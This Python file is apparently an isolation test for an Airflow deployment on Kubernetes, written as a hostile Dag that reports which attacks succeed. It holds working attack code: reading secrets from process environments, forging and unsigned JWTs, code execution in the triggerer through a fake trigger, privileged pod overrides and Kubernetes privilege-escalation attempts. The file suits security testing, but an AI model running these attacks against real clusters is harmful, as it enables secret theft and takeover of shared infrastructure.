"""Attacks of a hostile Dag author, from every place where the code runs.

Each attempt returns `done` or an error. The top of this file runs in the dag-processor, and its
outcomes become the documentation of the Dag. A deferred task sends this file to the triggerer.
The targets are in attacker.json, in the same folder.
"""

import base64
import ctypes
import json
import os
import re
import socket
import ssl
import sys
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from http import HTTPStatus
from pathlib import Path
from typing import Any

from airflow.sdk import BaseOperator, dag, get_current_context, task
from kubernetes.client import models as k8s

# In the triggerer, the task that has sent this file sets TOLD.
ABOUT = globals().get("TOLD") or json.loads(Path(__file__).with_name("attacker.json").read_text())
ACCOUNT_TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
SECONDS = 3
# To connect, and to get an answer: a blocked connection fails at once, a busy server answers late.
PATIENCE = (2 * SECONDS, 60)
SECRETS = {
    "read the URL of the database": "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN",
    "read the Fernet key": "AIRFLOW__CORE__FERNET_KEY",
    "read the JWT secret": "AIRFLOW__API_AUTH__JWT_SECRET",
    "read the API secret key": "AIRFLOW__API__SECRET_KEY",
}
TOKEN = re.compile(r'"token": ?"([\w.-]+)"')
CLONE_NEWUSER = 0x10000000


def connect(target: str) -> str:
    host, port = ABOUT["targets"][target]
    socket.create_connection((host, port), timeout=SECONDS).close()
    return "done"


def environments() -> str:
    """Return the environments of all readable processes."""
    found = []
    for file in Path("/proc").glob("[0-9]*/environ"):
        try:
            found.append(file.read_text(errors="replace"))
        except OSError:
            continue
    return "\0".join([*found, *(f"{name}={value}" for name, value in os.environ.items())])


def variable(name: str) -> str:
    match = re.search(rf"(?:^|\0){name}=([^\0]*)", environments())
    # Airflow replaces the URL by this value in tasks.
    if not match or match[1].startswith("airflow-db-not-allowed"):
        raise PermissionError("not in the environment")
    return "done"


def environment_of_another() -> str:
    """Find a process of another pod by its host name."""
    hosts = set(re.findall(r"(?:^|\0)HOSTNAME=([^\0]*)", environments()))
    if not hosts:
        raise LookupError("even its own environment cannot be read")
    if hosts == {socket.gethostname()}:
        raise PermissionError("all processes belong to this pod")
    return "done"


def read(*places: str) -> str:
    for place in places:
        if Path(place).exists():
            Path(place).read_bytes()
            return "done"
    raise FileNotFoundError("no such file")


def write(place: str) -> str:
    Path(place).write_text("attacked")
    return "done"


def call(name: str, *arguments: Any) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def kubernetes(path: str) -> str:
    """Send an unauthenticated request to the Kubernetes API."""
    context = ssl._create_unverified_context()
    url = f"https://kubernetes.default.svc{path}"
    urllib.request.urlopen(url, timeout=SECONDS, context=context)
    return "done"


ATTEMPTS: dict[str, Callable[[], str]] = {
    **{what: partial(variable, name) for what, name in SECRETS.items()},
    "read another pod's environment": environment_of_another,
    **{f"reach {target}": partial(connect, target) for target in ABOUT["targets"]},
    "read a Kubernetes token": partial(read, str(ACCOUNT_TOKEN)),
    "read Secrets through the Kubernetes API": partial(kubernetes, "/api/v1/secrets"),
    "read a key of the node": partial(read, "/etc/kubernetes/pki/ca.key", "/host/etc/shadow"),
    "write to the root file system": partial(write, "/usr/local/bin/attacked"),
    "write to Airflow's own code": partial(write, os.__file__ + ".attacked"),
    "write to the configuration": partial(write, "/opt/airflow/airflow.cfg"),
    "write to the Dags": partial(write, f"{__file__}.attacked"),
    "become root": partial(call, "setuid", 0),
    "mount a file system": partial(call, "mount", b"none", b"/tmp", b"tmpfs", 0, None),
    "get a user namespace of its own": partial(call, "unshare", CLONE_NEWUSER),
    "open a raw socket": lambda: (
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close() or "done"
    ),
    "read the kernel log": partial(call, "klogctl", 3, b" " * 64, 64),
}


def outcome(attempt: Callable[[], str]) -> str:
    try:
        return attempt()
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def outcomes(attempts: dict[str, Callable[[], str]]) -> dict[str, str]:
    with ThreadPoolExecutor(len(attempts)) as pool:
        return dict(zip(attempts, pool.map(outcome, attempts.values()), strict=True))


def forged(how: str, **claims: Any) -> str:
    """Return a forged token: with its own signature, unsigned, or signed with a guessed secret."""
    import jwt

    if how == "unsigned":
        return jwt.encode(claims, None, algorithm="none")
    if how == "guessed":
        return jwt.encode(claims, "airflow" * 10, algorithm="HS512")
    token = own_token()
    head, body, signature = token.split(".")
    mine = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    other = base64.urlsafe_b64encode(json.dumps({**mine, **claims}).encode()).decode().rstrip("=")
    return f"{head}.{other}.{signature}"


def run_as(token: str, task_instance: str) -> str:
    """Report to the execution API that a task runs here, with a token."""
    from airflow.configuration import conf

    body = {
        "state": "running",
        "hostname": "attacker",
        "unixname": "attacker",
        "pid": 1,
        "start_date": "2026-01-01T00:00:00Z",
    }
    base = conf.get("core", "execution_api_server_url").rstrip("/")
    request = urllib.request.Request(
        f"{base}/task-instances/{task_instance}/run",
        data=json.dumps(body).encode(),
        method="PATCH",
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        urllib.request.urlopen(request, timeout=10)
    except urllib.error.HTTPError as error:
        # The token is accepted; the task runs already or has run.
        if error.code != HTTPStatus.CONFLICT:
            raise
    return "done"


def own_token() -> str:
    """Return the token that the executor wrote into the arguments of this pod."""
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        if match := TOKEN.search(file.read_text(errors="replace")):
            return match[1]
    raise PermissionError("no token in any command line")


def by_token(mine: str, other: str) -> dict[str, str]:
    """Return the outcomes of requests with tokens of the execution API."""
    claims = {"sub": other, "scope": "workload", "aud": "urn:airflow.apache.org:task"}
    claims |= {"iat": time.time(), "nbf": time.time(), "exp": time.time() + 600}
    return outcomes(
        {
            "its own token for itself": lambda: run_as(own_token(), mine),
            "its own token for another task": lambda: run_as(own_token(), other),
            "a changed token for another task": lambda: run_as(forged("changed", sub=other), other),
            "an unsigned token for another task": lambda: run_as(
                forged("unsigned", **claims), other
            ),
            "a token signed with a guess for another task": lambda: run_as(
                forged("guessed", **claims), other
            ),
        }
    )


def kubernetes_api() -> Any:
    """Return a client of the Kubernetes API, with this pod's account or unauthenticated."""
    from kubernetes import client

    settings = client.Configuration(host="https://kubernetes.default.svc")
    settings.verify_ssl = settings.retries = False
    if ACCOUNT_TOKEN.exists():
        settings.api_key = {"authorization": f"Bearer {ACCOUNT_TOKEN.read_text()}"}
    return client.ApiClient(settings)


def environment_by_exec(namespace: str, pod: str) -> str:
    from kubernetes import client
    from kubernetes.stream import stream

    # `stream` changes its client, so it gets one of its own.
    act = client.CoreV1Api(kubernetes_api()).connect_get_namespaced_pod_exec
    try:
        act(pod, namespace, command=["env"], _request_timeout=PATIENCE)
    except client.ApiException as error:
        # Status 400: allowed, but in the wrong protocol; `stream` hides other responses.
        if error.status != HTTPStatus.BAD_REQUEST:
            raise
    said = stream(act, pod, namespace, command=["env"], stdout=True, stderr=True)
    if f"HOSTNAME={pod}" not in said:
        raise LookupError(f"unexpected output: {said}")
    return "done"


def token_of_another(core: Any, namespace: str) -> str:
    """Read a token that the executor wrote into the arguments of another pod."""
    for pod in core.list_namespaced_pod(namespace, _request_timeout=PATIENCE).items:
        words = [word for one in pod.spec.containers for word in one.args or []]
        if pod.metadata.name != socket.gethostname() and any(map(TOKEN.search, words)):
            return "done"
    raise LookupError("no other task is running")


def by_kubernetes() -> dict[str, str]:
    """Return the outcomes of requests to the Kubernetes API; all are dry runs."""
    from kubernetes import client

    api = kubernetes_api()
    core, rights = client.CoreV1Api(api), client.RbacAuthorizationV1Api(api)
    main, tasks, other = (ABOUT["namespaces"][name] for name in ("main", "tasks", "other"))

    def create(pod: dict[str, Any], namespace: str = tasks) -> str:
        return ask(core.create_namespaced_pod, namespace, pod, dry_run="All")

    def ask(act: Callable[..., Any], *arguments: Any, **options: Any) -> str:
        act(*arguments, **options, _request_timeout=PATIENCE)
        return "done"

    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}
    binding = {"metadata": {"name": "attack"}, "roleRef": role, "subjects": []}
    request = {"spec": {"audiences": None}}
    launched = ABOUT["launched"]
    legal = launched["launch a pod as the operator does"]
    tries: dict[str, Callable[[], str]] = {
        **{what: partial(create, pod) for what, pod in launched.items()},
        "launch a pod in the platform's namespace": partial(create, legal, main),
        "launch a pod in another team's namespace": partial(create, legal, other),
        "read another pod's environment": partial(environment_by_exec, tasks, ABOUT["pod"]),
        "read the environment of the platform": partial(
            environment_by_exec, main, "airflow-postgresql-0"
        ),
        "read the token of another task": partial(token_of_another, core, tasks),
        "list the Secrets of the tasks": partial(ask, core.list_namespaced_secret, tasks),
        "list the Secrets of the platform": partial(ask, core.list_namespaced_secret, main),
        "list the pods of the platform": partial(ask, core.list_namespaced_pod, main),
        "change a ConfigMap": partial(
            ask, core.patch_namespaced_config_map, "airflow-config", tasks, {"data": {"a": "b"}}
        ),
        "give itself permissions": partial(
            ask, rights.create_namespaced_role_binding, tasks, binding, dry_run="All"
        ),
        "create a token of another account": partial(
            ask, core.create_namespaced_service_account_token, "airflow-worker", tasks, request
        ),
    }
    return outcomes(tries)


def everything(mine: str = "", other: str = "") -> dict[str, dict[str, str]]:
    """Try everything in parallel: most attempts time out, and a Dag file has 30 seconds."""
    unknown = str(uuid.uuid4())
    with ThreadPoolExecutor() as pool:
        found = {
            "here": pool.submit(outcomes, ATTEMPTS),
            "kubernetes": pool.submit(by_kubernetes),
            "tokens": pool.submit(by_token, mine or unknown, other or unknown),
        }
        return {where: one.result() for where, one in found.items()}


def overridden(**spec: Any) -> dict[str, Any]:
    """Return the executor_config of a task with a pod that differs from the platform's."""
    labels = spec.pop("labels", None)
    container = spec.pop("container", {})
    base = k8s.V1Container(name="base", **container)
    return {
        "pod_override": k8s.V1Pod(
            metadata=k8s.V1ObjectMeta(labels=labels), spec=k8s.V1PodSpec(containers=[base], **spec)
        )
    }


LAUNCHER = overridden(
    service_account_name="airflow-pod-launcher", automount_service_account_token=True
)
OVERRIDES = {
    "privileged": overridden(
        container={"security_context": k8s.V1SecurityContext(privileged=True)}
    ),
    "path_of_the_node": overridden(
        volumes=[k8s.V1Volume(name="v", host_path=k8s.V1HostPathVolumeSource(path="/"))]
    ),
    "another_account": overridden(service_account_name=ABOUT["account"]),
    "label_of_a_component": overridden(labels={"component": "scheduler"}),
    "a_secret": overridden(
        volumes=[k8s.V1Volume(name="v", secret=k8s.V1SecretVolumeSource(secret_name="airflow-jwt"))]
    ),
}
IN_A_TASK = "AIRFLOW_IS_K8S_EXECUTOR_POD" in os.environ
ELSEWHERE = IN_A_TASK or "TOLD" in globals() or "pytest" in sys.modules
FOUND = {} if ELSEWHERE else everything()
# The triggerer sends the message of a trigger's TypeError to the task.
IN_THE_TRIGGERER = """
import json
names = {"__name__": "attacker", "__file__": file, "TOLD": told}
exec(source, names)
raise TypeError(json.dumps(names["everything"]()))
"""


class NoTrigger:
    """Not a trigger, but a function that runs its argument as code."""

    def serialize(self) -> tuple[str, dict[str, Any]]:
        source = Path(__file__).read_text()
        names = {"source": source, "file": __file__, "told": ABOUT}
        return "timeit.timeit", {"stmt": IN_THE_TRIGGERER, "number": 1, "globals": names}


class Deferring(BaseOperator):
    """Attack from the triggerer, and return the outcomes."""

    def execute(self, context: Any) -> None:
        self.defer(trigger=NoTrigger(), method_name="execute")

    def resume_execution(self, next_method: str, next_kwargs: Any, context: Any) -> Any:
        said = "".join(next_kwargs["traceback"])
        return json.loads(said.rpartition("TypeError: ")[2])


@dag(schedule=None, doc_md=json.dumps(FOUND))
def attacker() -> None:
    @task(retries=0)
    def victim() -> str:
        return str(get_current_context()["ti"].id)

    @task(retries=0)
    def attack(other: str) -> dict[str, dict[str, str]]:
        return everything(str(get_current_context()["ti"].id), other)

    @task(retries=0, executor_config=LAUNCHER)
    def launch() -> dict[str, str]:
        return by_kubernetes()

    @task(retries=0)
    def bystander() -> None:
        """A task that runs while the others look for its token."""
        time.sleep(40)

    bystander()
    attack(victim())
    launch()
    Deferring(task_id="defer", retries=0)
    for name, override in OVERRIDES.items():

        @task(task_id=name, retries=0, executor_config=override)
        def overriding() -> None:
            """Never runs, since its pod is refused."""

        overriding()


attacker()
